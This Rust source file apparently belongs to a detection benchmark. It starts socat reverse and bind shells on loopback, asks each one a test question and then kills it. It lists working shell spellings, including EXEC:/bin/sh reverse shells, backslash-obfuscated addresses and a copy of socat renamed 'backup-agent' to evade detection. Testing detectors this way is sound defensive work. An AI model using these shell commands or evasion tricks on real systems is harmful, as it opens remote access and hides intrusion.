//! One planted shell: socat in one of its spellings, connected to us over loopback, asked one question, ended.

use std::collections::HashSet;
use std::fmt;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use rustix::process::{Pid, Signal, kill_process_group};

use crate::statistics::Random;

/// A shell that was planted, and is gone.
pub(crate) struct Planted {
    pub(crate) variant: Variant,
    /// The port that belongs to it alone.
    pub(crate) port: u16,
    pub(crate) at: Instant,
    /// It ran our command: the attack worked.
    pub(crate) answered: bool,
}

/// The ways in which socat hands a shell to the network.
#[derive(Clone, Copy)]
pub(crate) struct Variant {
    /// The two addresses; `{}` is the port.
    addresses: [&'static str; 2],
    /// It listens, and we connect.
    listens: bool,
    /// A copy under another name.
    renamed: bool,
}

const fn reverse(first: &'static str, second: &'static str) -> Variant {
    Variant { addresses: [first, second], listens: false, renamed: false }
}

const VARIANTS: &[Variant] = &[
    reverse("TCP:127.0.0.1:{}", "EXEC:/bin/sh"),
    reverse("TCP4:127.0.0.1:{}", "EXEC:sh,pty,stderr,setsid,sigint,sane,echo=0"),
    reverse("EXEC:/bin/sh,pipes", "tcp-connect:127.0.0.1:{}"),
    reverse("TCP:127.0.0.1:{}", "SYSTEM:sh"),
    reverse("TCP:127.0.0.1:{}", "EXEC:/bin/sh,nofork"),
    reverse(r"TC\P:127.0.0.1:{}", r"E\XEC:/bin/s\h"),
    reverse("TCP:127.0.0.1:{}!!TCP:127.0.0.1:{}", "EXEC:/bin/sh"),
    Variant { addresses: ["TCP:127.0.0.1:{}", "EXEC:/bin/sh"], listens: false, renamed: true },
    Variant {
        addresses: ["TCP-LISTEN:{},bind=127.0.0.1,reuseaddr", "EXEC:/bin/sh"],
        listens: true,
        renamed: false,
    },
    Variant {
        addresses: ["TCP-LISTEN:{},bind=127.0.0.1,reuseaddr,fork", "EXEC:sh,pty,stderr,echo=0"],
        listens: true,
        renamed: false,
    },
];

impl Variant {
    pub(crate) fn any(random: &mut Random) -> Self {
        VARIANTS[random.below(VARIANTS.len())]
    }
}

impl fmt::Display for Variant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let [first, second] = self.addresses;
        write!(f, "{} {first} {second}", if self.renamed { "(renamed)" } else { "socat" })
    }
}

const QUESTION: &[u8] = b"echo vedette-$((6*7)); exit\n";
const ANSWER: &[u8] = b"vedette-42";
const AT_MOST: Duration = Duration::from_secs(10);

/// Plants one on a port that is not in `used`, and asks it; ends it whatever happened.
pub(crate) fn plant(variant: Variant, folder: &Path, used: &mut HashSet<u16>) -> Result<Planted> {
    let program = if variant.renamed { renamed(folder)? } else { "socat".into() };
    let mut listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
    while !used.insert(listener.local_addr()?.port()) {
        listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
    }
    let port = listener.local_addr()?.port();
    // One that listens itself needs the port that we just gave up.
    let listener = (!variant.listens).then_some(listener);
    let at = Instant::now();
    let child = Command::new(program)
        .args(variant.addresses.map(|address| address.replace("{}", &port.to_string())))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .process_group(0)
        .spawn()
        .context("socat could not be started (./setup --for bench)")?;
    let group = Group(child);
    let dual = variant.addresses[0].contains("!!");
    let answered = match listener {
        Some(listener) => accept(&listener).and_then(|near| {
            // A dual address reads from its first connection and writes to its second.
            let far = if dual { accept(&listener)? } else { near.try_clone()? };
            ask(near, far)
        }),
        None => connect(port).and_then(|stream| ask(stream.try_clone()?, stream)),
    };
    drop(group);
    if let Err(error) = &answered {
        eprintln!("w6: {variant} did not work: {error:#}");
    }
    Ok(Planted { variant, port, at, answered: answered.unwrap_or(false) })
}

/// Sends the question into `to` and looks for the answer from `from`.
fn ask(mut to: TcpStream, from: TcpStream) -> Result<bool> {
    to.write_all(QUESTION)?;
    from.set_read_timeout(Some(AT_MOST))?;
    let mut answer = Vec::new();
    let mut part = [0u8; 256];
    let mut from = from.take(64 * 1024);
    while !answer.windows(ANSWER.len()).any(|window| window == ANSWER) {
        let count = match from.read(&mut part) {
            Ok(count) => count,
            // A socket with a time limit is interrupted whenever a child of the storm ends.
            Err(error) if error.kind() == std::io::ErrorKind::Interrupted => continue,
            Err(error) => return Err(error).context("the shell does not answer"),
        };
        if count == 0 {
            return Ok(false);
        }
        answer.extend_from_slice(&part[..count]);
    }
    Ok(true)
}

fn accept(listener: &TcpListener) -> Result<TcpStream> {
    listener.set_nonblocking(true)?;
    let deadline = Instant::now() + AT_MOST;
    loop {
        match listener.accept() {
            Ok((stream, _)) => {
                stream.set_nonblocking(false)?;
                return Ok(stream);
            }
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(1));
            }
            Err(error) => return Err(error).context("the planted shell did not call back"),
        }
    }
}

fn connect(port: u16) -> Result<TcpStream> {
    let deadline = Instant::now() + AT_MOST;
    loop {
        match TcpStream::connect((Ipv4Addr::LOCALHOST, port)) {
            Ok(stream) => return Ok(stream),
            Err(_) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(5)),
            Err(error) => return Err(error).context("the planted shell does not listen"),
        }
    }
}

/// A copy of socat that does not say so.
fn renamed(folder: &Path) -> Result<std::path::PathBuf> {
    let copy = folder.join("backup-agent");
    if !copy.exists() {
        let Some(socat) = ["/usr/bin/socat", "/usr/bin/socat1"].iter().find(|path| Path::new(path).exists())
        else {
            bail!("/usr/bin/socat is missing (./setup --for bench)")
        };
        std::fs::copy(socat, &copy)?;
    }
    Ok(copy)
}

/// Everything that a planted socat started; ended when dropped.
struct Group(Child);

impl Drop for Group {
    fn drop(&mut self) {
        if let Some(group) = i32::try_from(self.0.id()).ok().and_then(Pid::from_raw) {
            // Gone already is as good as ended.
            let _ = kill_process_group(group, Signal::KILL);
        }
        let _ = self.0.wait();
    }
}
